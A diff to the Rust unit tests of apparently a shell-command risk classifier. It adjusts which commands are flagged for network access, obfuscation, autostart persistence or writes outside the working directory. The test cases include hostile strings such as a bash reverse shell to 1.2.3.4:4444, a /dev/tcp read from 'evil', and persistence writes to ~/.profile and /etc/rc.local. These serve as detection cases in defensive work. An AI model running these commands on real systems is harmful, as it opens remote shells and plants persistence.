-            ("crontab -e", &[BootAutostart]), ("systemctl enable foo", &[BootAutostart]), ("echo x >> ~/.profile", &[Opaque, BootAutostart, OutsideCwd]),
+            ("crontab -e", &[BootAutostart]), ("systemctl enable foo", &[BootAutostart]), ("echo x >> ~/.profile", &[BootAutostart, OutsideCwd]),
             ("cp a /etc/rc.local", &[OutsideCwd, BootAutostart]), ("touch ../outside", &[OutsideCwd]), ("curl\u{202e}x", &[Opaque]), ("echo 'x", &[Opaque]),
             // shell syntax
             ("echo \"x", &[Opaque]), ("X=1 ls", &[Opaque]), ("GIT_PAGER=sh git log", &[Opaque]), ("$CMD x", &[Opaque]), ("/usr/bin/cur? x", &[Opaque]),
-            ("echo ${PATH}", &[Opaque]), ("ls &>/dev/null", &[Opaque]), ("cat <<EOF", &[Opaque]), ("diff <(ls) x", &[Opaque]), ("echo x > out.txt", &[Opaque]),
-            ("ls 2>&1 | tee /tmp/x", &[Opaque, OutsideCwd]), ("a=$(curl x)", &[Opaque, Network]), ("eval 'curl x'", &[Opaque, Network]),
+            ("cat <<EOF", &[Opaque]), ("ls 2>&1 | tee /tmp/x", &[OutsideCwd]), ("a=$(curl x)", &[Network]), ("${PATH} x", &[Opaque]), ("eval 'curl x'", &[Opaque, Network]),
             ("bash -lc 'curl x'", &[Opaque, Network]), ("bash -o pipefail -c 'curl x'", &[Opaque, Network]), ("sh", &[Opaque]), ("env", &[Opaque]),
-            ("echo $'\\x1b'", &[Opaque]), ("ls\necho hi", &[Opaque]),
+            ("echo $'\\x1b'", &[Opaque]),
             // program names and wrappers
             ("/usr/bin/curl x", &[Network]), ("'cu''rl' x", &[Network]), ("\\curl x", &[Network]), ("c\\url x", &[Network]), ("CURL.exe x", &[Network]),
             ("timeout 5 curl x", &[Network]), ("nice -n 5 nohup time wget x", &[Network]), ("command curl x", &[Network]), ("exec wget x", &[Opaque, Network]),
@@ -1031,11 +1502,14 @@ mod tests {
             ("rsync -e 'sh -c x' a b", &[Opaque]), ("docker run x", &[Opaque]), ("ssh -o ProxyCommand=x h", &[Network, Opaque]), ("at now", &[BootAutostart, Opaque]),
             ("cat < /dev/tcp/evil/80", &[Network]), ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &[Network, Opaque]), ("busybox httpd", &[Network]),
         ];
+        let mut bad = Vec::new();
         for (cmd, want) in cases {
             let r = analyze_shell(cmd);
-            for d in *want { assert!(r.dangers.contains(d), "{cmd:?}: expected {d:?}, got {r:?}"); }
-            assert!(r.never_loosens() && !r.reasons.is_empty(), "{cmd:?}");
+            if !want.iter().all(|d| r.dangers.contains(d)) || !r.never_loosens() || r.reasons.is_empty() {
+                bad.push(format!("{cmd:?}: expected {want:?}, got {:?} {:?}", r.dangers, r.reasons));
+            }
         }
+        assert!(bad.is_empty(), "{}", bad.join("\n"));
     }
 
     #[test]
@@ -1048,11 +1522,12 @@ mod tests {
             "git log --format='%H %s'", "ls -d /etc", "cat /etc/hosts", "bash script.sh", "systemctl status foo", "crontab -l", "npm run build",
             "echo a=b", "grep -C 3 x f", "pytest -q tests/", "ls ./*.rs", "wc -l < src/main.rs", "awk '{print $1}' f", "git add -A", "rmdir -p a/b", "[ -f x ]",
             "echo hi >&2", "c\"\"at x", "git config --get user.name", "ls -la > /dev/null",
+            "echo ${PATH}", "ls &>/dev/null", "diff <(ls) x", "echo x > out.txt", "ls\necho hi", "cargo test 2>&1 | tail -5", "cd web && npm test", "sleep 2; echo done",
         ];
-        for cmd in clean {
-            let r = analyze_shell(cmd);
-            assert!(!r.never_loosens() && r.reasons.is_empty() && !r.has_control_chars, "{cmd:?} should be clean: {r:?}");
-        }
+        let bad: Vec<String> = clean.iter().map(|c| (c, analyze_shell(c)))
+            .filter(|(_, r)| r.never_loosens() || !r.reasons.is_empty() || r.has_control_chars)
+            .map(|(c, r)| format!("{c:?} should be clean: {:?}", r.reasons)).collect();
+        assert!(bad.is_empty(), "{}", bad.join("\n"));
     }
 
     #[test]
